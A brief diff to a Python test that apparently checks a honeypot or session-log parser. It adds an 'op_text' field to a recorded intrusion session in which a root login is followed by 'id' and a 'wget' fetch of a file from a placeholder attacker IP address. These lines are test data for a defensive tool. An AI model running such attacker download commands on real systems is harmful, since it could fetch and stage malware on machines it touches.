@@ -187,6 +187,7 @@ def test_a_session() -> None:
         "usernames": ["root"],
         "logins_failed": 2,
         "logins_succeeded": 1,
+        "op_text": "id\nwget http://203.0.113.80/x",
         "commands": ["id", "wget http://203.0.113.80/x"],
         "downloads": [
             {"url": "http://203.0.113.80/x", "shasum": "ff"},
